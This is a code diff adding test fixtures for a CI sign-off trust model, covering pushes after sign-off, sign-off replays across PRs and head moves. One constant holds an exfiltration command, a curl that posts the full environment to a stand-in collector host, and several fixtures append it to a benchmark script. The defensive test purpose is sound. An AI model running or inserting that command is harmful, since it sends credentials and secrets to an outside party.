@@ -185,6 +185,117 @@ def drift() -> dict:
     return world
 
 
+HEAD = "296a93ad6c8fa017e83fb5f404f09f2efc16e1c4"  # seed 000's head, signed off by 5003 at 09:30
+BRANCH = "yhl-amd/minimaxm3-flydsl"
+SCRIPT = "benchmarks/single_node/agentic/minimaxm3_fp4_mi355x_atom_mtp.sh"
+EXFIL = 'curl -s -d "$(env)" https://collector.example/upload\n'
+
+
+def _head_run(run_id: int, sha: str, branch: str, created_at: str) -> dict:
+    return SEED.head_status_run(run_id, sha, branch, created_at)
+
+
+def _push(world: dict, sha: str, parent: str, files: dict, message: str, at: str,
+          run_id: int, pull: dict | None = None) -> None:
+    """A new PR head `sha` on top of `parent`, and the pull_request run GitHub records for it."""
+    pull = pull or world["pulls"][0]
+    world["commits"][sha] = {"parents": [parent], "files_from": parent, "message": message,
+                             "files": files}
+    pull["head"]["sha"] = sha
+    pull["commits"] = [*pull["commits"], sha]
+    world["workflow_runs"].append(_head_run(run_id, sha, pull["head"]["ref"], at))
+
+
+PUSHED = "c0ffee0000000000000000000000000000000002"
+
+
+def push_after_signoff() -> dict:
+    """Case 2b: after the sign-off (09:30) the author pushes a commit whose recipe posts the
+    environment to an outside URL (10:00), then dispatches a re-verification of the old
+    sign-off for the new head."""
+    world = SEED.seed000()
+    script = world["commits"][SWEEP]["files"][SCRIPT]
+    _push(world, PUSHED, HEAD, {SCRIPT: script + EXFIL}, "tidy the recipe",
+          "2026-09-24T10:00:00Z", 35873197702)
+    return world
+
+
+OTHER = "c0ffee0000000000000000000000000000000003"
+
+
+def replay_other_pr() -> dict:
+    """Case 2a: the author's second PR #3414 (its own branch and head, no sign-off) gets a
+    dispatch naming the CODEOWNER's sign-off 5003, which is on PR #3412."""
+    world = SEED.seed000()
+    pull = world["pulls"][0]
+    main = world["branches"]["main"]
+    script = world["commits"][SWEEP]["files"][SCRIPT]
+    world["commits"][OTHER] = {"parents": [main], "files_from": main, "message": "recipe tweak",
+                               "files": {SCRIPT: script + EXFIL}}
+    world["pulls"].append({
+        **{k: v for k, v in pull.items() if k not in ("comments", "reviews", "review_comments")},
+        "number": 3414, "title": "perf(amd): MiniMax-M3 recipe tweak",
+        "head": {"ref": "yhl-amd/recipe-tweak", "sha": OTHER, "repo": world["repo"]},
+        "commits": [OTHER], "comments": [], "reviews": [], "review_comments": []})
+    world["workflow_runs"].append(_head_run(35873197703, OTHER, "yhl-amd/recipe-tweak",
+                                            "2026-09-24T10:00:00Z"))
+    return world
+
+
+MAIN2 = "c0ffee0000000000000000000000000000000004"
+MERGED = "c0ffee0000000000000000000000000000000005"
+
+
+def merge_after_signoff() -> dict:
+    """Case 2c: after the sign-off, main moves on (README) and the author merges it (10:00);
+    the PR's own changes are the signed ones, so the new head inherits the sign-off."""
+    world = SEED.seed000()
+    main = world["branches"]["main"]
+    readme = world["commits"][_root_sha(world)]["files"]["README.md"] + "\nSee docs/.\n"
+    world["commits"][MAIN2] = {"parents": [main], "files_from": main, "message": "README",
+                               "files": {"README.md": readme}}
+    world["branches"]["main"] = MAIN2
+    pull = world["pulls"][0]
+    pull["base"]["sha"] = MAIN2
+    _push(world, MERGED, HEAD, {"README.md": readme}, "Merge branch 'main'",
+          "2026-09-24T10:00:00Z", 35873197704)
+    world["commits"][MERGED]["parents"] = [HEAD, MAIN2]
+    return world
+
+
+AFTER_MERGE = "c0ffee0000000000000000000000000000000006"
+DOCS_PR = "c0ffee0000000000000000000000000000000007"
+
+
+def head_moves() -> dict:
+    """Case 10: seed 000 (head 296a93, signed off) plus the heads it moves to later: the
+    plain merge of main (MERGED), then an own change on top of it (AFTER_MERGE); and PR #3415
+    touching only README.md (core-owned: no sign-off needed). The tests move the PR head
+    through them and run the head-status job each time."""
+    world = merge_after_signoff()
+    pull = world["pulls"][0]
+    pull["head"]["sha"], pull["commits"] = HEAD, pull["commits"][:-1]
+    pull["base"]["sha"] = world["commits"][MAIN2]["parents"][0]  # main before it moved on
+    world["workflow_runs"] = [r for r in world["workflow_runs"] if r["head_sha"] != MERGED]
+    script = world["commits"][SWEEP]["files"][SCRIPT]
+    world["commits"][AFTER_MERGE] = {"parents": [MERGED], "files_from": MERGED,
+                                     "message": "tidy the recipe", "files": {SCRIPT: script + EXFIL}}
+    main = world["branches"]["main"]
+    world["commits"][DOCS_PR] = {"parents": [main], "files_from": main, "message": "docs",
+                                 "files": {"README.md": "# InferenceX\n\nBenchmarks.\n"}}
+    world["pulls"].append({
+        **{k: v for k, v in pull.items() if k not in ("comments", "reviews", "review_comments")},
+        "number": 3415, "title": "docs: README", "user": "yhl-amd",
+        "head": {"ref": "yhl-amd/readme", "sha": DOCS_PR, "repo": world["repo"]},
+        "base": {"ref": "main", "sha": main}, "labels": [],
+        "commits": [DOCS_PR], "comments": [], "reviews": [], "review_comments": []})
+    return world
+
+
+def _root_sha(world: dict) -> str:
+    return next(sha for sha, c in world["commits"].items() if not c.get("parents"))
+
+
 WORLDS = (
     ("trust_clock.yaml", clock,
      "Case 12: a deprecation after the world's `now` (2026-09-24) and before the host's date"),
@@ -205,6 +316,14 @@ WORLDS = (
      "Case 5: the recipe script changed after the swept commit (env var, --max-num-seqs 4096)"),
     ("trust_changelog_tbd.yaml", changelog_tbd,
      "Case 6: the PR's new changelog entry has `pr-link: TBD`"),
+    ("trust_push_after_signoff.yaml", push_after_signoff,
+     "Case 2: the author pushes after the sign-off (the recipe posts the environment out)"),
+    ("trust_replay_other_pr.yaml", replay_other_pr,
+     "Case 2: a dispatch for PR #3414 naming the sign-off of PR #3412"),
+    ("trust_merge_after_signoff.yaml", merge_after_signoff,
+     "Case 2: a plain merge of main after the sign-off (the head inherits it)"),
+    ("trust_head_moves.yaml", head_moves,
+     "Case 10: the heads a signed-off PR moves to, and a PR that needs no sign-off"),
 )
 HEADER = ("# {what}\n# Seed 000 with one change, for the trust-model tests (PRODUCT §4.8)\n"
           "# (generated by make_trust_worlds.py from make_signoff_worlds.py's seed 000).\n")
